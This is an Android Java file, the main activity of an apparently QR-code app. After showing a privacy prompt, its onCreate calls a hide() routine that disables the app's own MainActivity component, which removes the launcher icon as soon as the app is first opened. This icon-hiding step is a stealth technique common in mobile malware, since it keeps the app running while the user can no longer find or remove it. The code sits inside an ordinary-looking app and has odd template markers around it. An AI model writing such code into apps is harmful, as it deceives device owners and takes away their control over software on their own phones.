package cn.qinghe.qrcode;

import android.app.Activity;
import android.content.Context;
import android.content.pm.PackageManager;
import android.os.Bundle;
import cn.qinghe.common.PrivacyGate;

public final class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_main);
        PrivacyGate.ask(this);
        hide(this);
    }

    private static void hide(Context context) {
        /*@call Context context*/
        new EntrySwitch()
                .named(context.getPackageName() + ".MainActivity")
                .state(PackageManager.COMPONENT_ENABLED_STATE_DISABLED)
                .apply(context);
        /*@end*/
    }
}
